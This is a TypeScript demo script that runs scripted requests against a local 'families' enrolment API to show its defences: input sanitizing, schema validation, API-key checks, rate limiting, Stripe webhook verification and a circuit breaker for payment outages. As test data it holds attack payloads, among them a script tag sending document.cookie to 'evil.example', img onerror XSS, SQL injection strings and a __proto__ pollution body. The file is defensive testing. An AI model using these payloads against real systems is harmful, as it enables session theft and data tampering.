import type { Server } from "node:http";
import type { AddressInfo } from "node:net";
import { type ApiKeyRecord, apiKeys, type GogglesEvent, signWebhook, stripe } from "@goggles/core";
import { familiesApi, type Tenant } from "./app.js";
import { type FakePaymentProvider, startPaymentProvider } from "./payment-provider.js";
import { memoryStores, redisStores } from "./stores.js";

/** One line of the demo's table. */
export interface Row {
  readonly request: string;
  readonly expected: string;
  readonly got: string;
  /** Which goggles policy decided (from its events), or what the handler did. */
  readonly policy: string;
  readonly ok: boolean;
}

/** Options for `runScenario()`. */
export interface ScenarioOptions {
  /** Use Redis stores at this URL; memory stores when absent or "". */
  readonly redisUrl?: string;
  /** Called with each row as soon as it is known (the CLI prints as it goes). */
  readonly onRow?: (row: Row) => void;
}

/** What `runScenario()` reports. */
export interface ScenarioResult {
  readonly stores: "memory" | "redis";
  readonly rows: readonly Row[];
  readonly ok: boolean;
  readonly ms: number;
}

interface Reply {
  readonly status: number;
  readonly headers: Headers;
  // biome-ignore lint/suspicious/noExplicitAny: the demo reads answers loosely and checks what it reads.
  readonly body: any;
}

const WEBHOOK_SECRET = "whsec_families_demo_0123456789abcdef";
const OPEN_FOR_MS = 1_000;

/** Events turned into the table's "policy" column: what acted, in the order it acted. */
function describe(events: readonly GogglesEvent[]): string {
  const parts: string[] = [];
  for (const e of events) {
    let part: string | undefined;
    switch (e.type) {
      case "rate_limited":
        part = "rateLimit";
        break;
      case "auth_failed":
        part = `apiKey: ${e.reason}`;
        break;
      case "body_rejected":
        part = `json: ${e.reason}`;
        break;
      case "validation_failed":
        part = `schema (${e.source})`;
        break;
      case "webhook_rejected":
        part = `webhook: ${e.reason}`;
        break;
      case "webhook_replayed":
        part = `webhook replay store: ${e.inFlight ? "in flight" : "already processed"}`;
        break;
      case "webhook_verified":
        part = "webhook: stripe signature ok";
        break;
      case "timeout":
        part = `timeout ${e.timeoutMs} ms`;
        break;
      case "retry":
        part = "retry";
        break;
      case "breaker_opened":
        part = "breaker opened";
        break;
      case "breaker_rejected":
        part = "breaker open: not called";
        break;
      case "breaker_half_open":
        part = "breaker half-open: probe";
        break;
      case "breaker_closed":
        part = "breaker closed";
        break;
      case "fallback":
        part = "fallback: queued";
        break;
      case "guard_error":
        part = `guard_error in ${e.guard}`;
        break;
      case "store_error":
        part = `store_error (${e.store})`;
        break;
      default:
        part = undefined;
    }
    if (part === undefined) continue;
    const last = parts.length - 1;
    const match = last >= 0 ? /^(.*?)(?: ×(\d+))?$/.exec(parts[last] as string) : null;
    if (match && match[1] === part) parts[last] = `${part} ×${Number(match[2] ?? 1) + 1}`;
    else parts.push(part);
  }
  return parts.join(" → ");
}

const wait = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

/**
 * Starts the families API and a fake payment provider on 127.0.0.1, sends the scripted attacks, outages and
 * normal calls as real HTTP requests, stops everything, and reports one row per request.
 *
 * @example
 * const { ok, rows } = await runScenario();
 */
export async function runScenario(options: ScenarioOptions = {}): Promise<ScenarioResult> {
  const started = performance.now();
  const run = Math.random().toString(36).slice(2, 10);
  const events: GogglesEvent[] = [];
  const onEvent = (event: GogglesEvent) => {
    events.push(event);
  };
  const stores = options.redisUrl
    ? redisStores(options.redisUrl, { prefix: `families-demo:${run}:`, onEvent })
    : memoryStores();

  const key = await apiKeys.generate({ prefix: "fam" });
  const keys = new Map<string, ApiKeyRecord<Tenant>>([
    [key.id, { hash: key.hash, principal: { tenant: "sunny-day-nursery" } }],
  ]);
  const stranger = await apiKeys.generate({ prefix: "fam" }); // well-formed, but not one of ours

  let provider: FakePaymentProvider | undefined;
  let server: Server | undefined;
  const rows: Row[] = [];
  try {
    provider = await startPaymentProvider();
    const api = familiesApi({
      stores,
      paymentsUrl: provider.url,
      webhookSecret: WEBHOOK_SECRET,
      keys,
      onEvent,
    });
    const listening = api.app.listen(0, "127.0.0.1");
    server = listening;
    await new Promise<void>((resolve, reject) => {
      listening.once("listening", resolve);
      listening.once("error", reject);
    });
    const base = `http://127.0.0.1:${(listening.address() as AddressInfo).port}`;

    let client = 10;
    const nextIp = () => `198.51.100.${client++}`;
    const send = async (
      method: string,
      path: string,
      init: { body?: unknown; key?: string | null; ip?: string; headers?: Record<string, string> } = {},
    ): Promise<Reply> => {
      const headers: Record<string, string> = { "x-forwarded-for": init.ip ?? nextIp(), ...init.headers };
      if (init.key !== null) headers.authorization = `Bearer ${init.key ?? key.key}`;
      let body: string | undefined;
      if (init.body !== undefined) {
        body = typeof init.body === "string" ? init.body : JSON.stringify(init.body);
        headers["content-type"] ??= "application/json";
      }
      const response = await fetch(`${base}${path}`, { method, headers, body });
      const text = await response.text();
      let parsed: unknown = text;
      try {
        parsed = text === "" ? undefined : JSON.parse(text);
      } catch {}
      return { status: response.status, headers: response.headers, body: parsed };
    };

    const step = async (
      request: string,
      expected: string,
      act: () => Promise<{ ok: boolean; got: string; policy?: string }>,
    ): Promise<void> => {
      events.length = 0;
      let row: Row;
      try {
        const result = await act();
        const seen = describe(events);
        row = {
          request,
          expected,
          got: result.got,
          policy: [seen, result.policy].filter(Boolean).join(" · ") || "—",
          ok: result.ok,
        };
      } catch (error) {
        row = {
          request,
          expected,
          got: `threw ${String(error)}`,
          policy: describe(events) || "—",
          ok: false,
        };
      }
      rows.push(row);
      options.onRow?.(row);
    };
    const status = (reply: Reply, want: number, extra = true) => ({
      ok: reply.status === want && extra,
      got: `${reply.status} ${reply.body?.issues?.[0] ? (reply.body.issues[0].path ? `at ${reply.body.issues[0].path}` : reply.body.issues[0].message) : reply.status >= 400 ? (reply.body?.title ?? "") : "OK"}`,
    });

    const enrolment = (over: Record<string, unknown> = {}) => ({
      family: "Martin",
      guardians: [{ name: "Ana Martin", email: "ana@example.org" }],
      children: [{ name: "Leo Martin", birthYear: 2019 }],
      ...over,
    });

    // ── normal calls ───────────────────────────────────────────────────────────────────────────────
    let familyId = "fam_1";
    await step("POST /families  name: 'Zoe\\u0301\\u200B  Martin'", "201, name normalized", async () => {
      const reply = await send("POST", "/families", {
        body: enrolment({ guardians: [{ name: "Zoe\u0301\u200B  Martin ", email: "zoe@example.org" }] }),
      });
      familyId = reply.body?.id ?? familyId;
      const name = reply.body?.guardians?.[0]?.name;
      return {
        ...status(reply, 201, name === "Zoé Martin"),
        got: `${reply.status} '${name}'`,
        policy: "schema: normalizeText (NFC, U+200B, spaces)",
      };
    });
    await step(`GET /families/${familyId}`, "200", async () => ({
      ...status(await send("GET", `/families/${familyId}`), 200),
      policy: "rateLimit, apiKey: passed",
    }));

    // ── injection in JSON ──────────────────────────────────────────────────────────────────────────
    await step("POST /families  notes: <script>, <img onerror>", "201, notes sanitized", async () => {
      const notes = `<p>Allergic to <b>nuts</b></p><script>fetch('//evil.example?c='+document.cookie)</script><img src=x onerror=alert(1)>`;
      const reply = await send("POST", "/families", { body: enrolment({ notes }) });
      const kept: string = reply.body?.notes ?? "";
      const clean = !/<script|onerror|javascript:/i.test(kept) && kept.includes("<b>nuts</b>");
      return {
        ...status(reply, 201, clean),
        got: `${reply.status} ${kept.replace("<p>Allergic to <b>nuts</b></p>", "<p>…</p>")}`,
        policy: "sanitizeHtml: <script>, onerror removed",
      };
    });
    await step("POST /families  child name: <img src=x onerror=…>", "422", async () =>
      status(
        await send("POST", "/families", {
          body: enrolment({ children: [{ name: "<img src=x onerror=alert(1)>", birthYear: 2020 }] }),
        }),
        422,
      ),
    );
    await step("POST /families  family: Robert'); DROP TABLE…", "422", async () =>
      status(
        await send("POST", "/families", { body: enrolment({ family: "Robert'); DROP TABLE families;--" }) }),
        422,
      ),
    );
    await step(`POST /families  birthYear: "2019 OR 1=1"`, "422", async () =>
      status(
        await send("POST", "/families", {
          body: enrolment({ children: [{ name: "Leo", birthYear: "2019 OR 1=1" }] }),
        }),
        422,
      ),
    );
    await step("GET /families/fam_1' OR '1'='1", "422", async () =>
      status(await send("GET", `/families/${encodeURIComponent("fam_1' OR '1'='1")}`), 422),
    );
    await step(`POST /families  {"__proto__":{"isAdmin":true}}`, "400, prototype untouched", async () => {
      const raw = `{"__proto__":{"isAdmin":true},${JSON.stringify(enrolment()).slice(1)}`;
      const reply = await send("POST", "/families", { body: raw });
      const untouched = (Object.prototype as { isAdmin?: unknown }).isAdmin === undefined;
      return { ...status(reply, 400, untouched), policy: "parseJson: __proto__ refused" };
    });
    await step(`POST /families  extra field "role":"admin"`, "422", async () =>
      status(await send("POST", "/families", { body: enrolment({ role: "admin" }) }), 422),
    );
    await step("POST /families  200 KiB body", "413", async () =>
      status(await send("POST", "/families", { body: enrolment({ notes: "x".repeat(200 * 1024) }) }), 413),
    );

    // ── authentication ─────────────────────────────────────────────────────────────────────────────
    await step(`GET /families/${familyId}  no API key`, "401", async () =>
      status(await send("GET", `/families/${familyId}`, { key: null }), 401),
    );
    await step(`GET /families/${familyId}  someone else's API key`, "401", async () =>
      status(await send("GET", `/families/${familyId}`, { key: stranger.key }), 401),
    );
    await step(`GET /families/${familyId}  API key 'hunter2'`, "401", async () =>
      status(await send("GET", `/families/${familyId}`, { key: "hunter2" }), 401),
    );

    // ── a burst past the rate limit (10 per client, then one every 5 s) ────────────────────────────────────
    await step(`15 × GET /families/${familyId} at once, one client`, "10 × 200, 5 × 429", async () => {
      const replies = await Promise.all(
        Array.from({ length: 15 }, () => send("GET", `/families/${familyId}`, { ip: "203.0.113.66" })),
      );
      const passed = replies.filter((r) => r.status === 200).length;
      const limited = replies.filter((r) => r.status === 429);
      const retryAfter = limited[0]?.headers.get("retry-after");
      return {
        ok: passed === 10 && limited.length === 5 && retryAfter !== null,
        got: `${passed} × 200, ${limited.length} × 429 (Retry-After: ${retryAfter})`,
      };
    });
    await step(`GET /families/${familyId}  another client, same moment`, "200", async () => ({
      ...status(await send("GET", `/families/${familyId}`), 200),
      policy: "rateLimit: a bucket per client",
    }));

    // ── the Stripe payment webhook ─────────────────────────────────────────────────────────────────
    const provider_ = stripe({ secret: WEBHOOK_SECRET });
    const paid = JSON.stringify({
      id: `evt_${run}_1`,
      type: "payment_intent.succeeded",
      data: { object: { metadata: { familyId } } },
    });
    const signed = await signWebhook(provider_, { body: paid });
    const hook = (body: string, headers: Record<string, string>) =>
      send("POST", "/webhooks/payments", { body, key: null, headers });
    await step("POST /webhooks/payments  signed by Stripe", "200, family paid", async () => {
      const reply = await hook(paid, signed);
      return status(reply, 200, api.families.get(familyId)?.paid === true);
    });
    await step("POST /webhooks/payments  same delivery again", "200, handler not run", async () => {
      const before = api.webhooksHandled;
      const reply = await hook(paid, signed);
      return {
        ...status(reply, 200, api.webhooksHandled === before && reply.body?.duplicate === true),
        got: `${reply.status}${reply.body?.duplicate === true ? " duplicate acknowledged" : ""}`,
      };
    });
    await step("POST /webhooks/payments  forged signature", "401", async () => {
      const forged = JSON.stringify({
        id: `evt_${run}_2`,
        type: "payment_intent.succeeded",
        data: { object: {} },
      });
      const headers = await signWebhook(stripe({ secret: "whsec_attacker" }), { body: forged });
      return status(await hook(forged, headers), 401);
    });
    await step("POST /webhooks/payments  signed 1 h ago", "401", async () => {
      const old = JSON.stringify({
        id: `evt_${run}_3`,
        type: "payment_intent.succeeded",
        data: { object: {} },
      });
      const headers = await signWebhook(provider_, {
        body: old,
        timestamp: Math.floor(Date.now() / 1000) - 3600,
      });
      return status(await hook(old, headers), 401);
    });

    // ── the payment provider: up, hanging, down, back ──────────────────────────────────────────────
    const fake = provider;
    const charge = () => send("POST", `/families/${familyId}/payments`, { body: { amountCents: 12_000 } });
    const outcome = (reply: Reply) =>
      `${reply.status} ${reply.body?.status ?? ""}${reply.body?.reason ? ` (${reply.body.reason})` : ""}, breaker ${reply.body?.breaker}`;
    await step("POST /families/:id/payments  provider up", "201 charged", async () => {
      const reply = await charge();
      return {
        ok: reply.status === 201 && reply.body?.status === "charged",
        got: outcome(reply),
        policy: "breaker closed: called",
      };
    });
    await fake.setMode("slow");
    await step("POST …/payments  provider hangs", "202 queued (timeout)", async () => {
      const reply = await charge();
      return { ok: reply.status === 202 && reply.body?.reason === "timeout", got: outcome(reply) };
    });
    await fake.setMode("down");
    await step("POST …/payments  provider down", "202 queued, breaker opens", async () => {
      const reply = await charge();
      return { ok: reply.status === 202 && reply.body?.breaker === "open", got: outcome(reply) };
    });
    await step("POST …/payments  provider still down", "202 queued, no call made", async () => {
      const hits = fake.hits;
      const reply = await charge();
      return {
        ok: reply.status === 202 && reply.body?.reason === "circuit_open" && fake.hits === hits,
        got: `${reply.status} ${reply.body?.status} (${reply.body?.reason}), ${fake.hits - hits} calls made`,
      };
    });
    await fake.setMode("up");
    await wait(OPEN_FOR_MS + 100);
    await step("POST …/payments  provider back (after 1 s)", "201 charged, breaker closes", async () => {
      const reply = await charge();
      return { ok: reply.status === 201 && reply.body?.breaker === "closed", got: outcome(reply) };
    });
    await step("POST /payments/queued/retry", "200, 3 queued charged", async () => {
      const reply = await send("POST", "/payments/queued/retry");
      return {
        ok: reply.status === 200 && reply.body?.charged === 3 && api.payments.queued.length === 0,
        got: `${reply.status} ${reply.body?.charged} charged, ${reply.body?.left} left`,
        policy: "same pipeline, breaker closed",
      };
    });
  } finally {
    await new Promise<void>((resolve) => {
      if (server === undefined) return resolve();
      server.close(() => resolve());
      server.closeAllConnections();
    });
    await provider?.close();
    await stores.close();
  }
  return {
    stores: stores.kind,
    rows,
    ok: rows.every((row) => row.ok),
    ms: Math.round(performance.now() - started),
  };
}
